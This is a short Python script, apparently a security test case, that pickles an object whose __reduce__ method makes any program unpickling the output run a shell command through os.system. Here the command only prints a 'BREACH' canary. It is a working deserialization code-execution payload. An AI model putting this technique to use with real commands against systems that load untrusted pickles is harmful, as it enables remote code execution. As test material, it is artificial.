# tries: hand code to whoever unpickles its output
# endings: exited
# levels: every
import os, pickle


class A:
    def __reduce__(self):
        return os.system, ('printf %b BR\\0105ACH',)


os.write(1, pickle.dumps(A()))
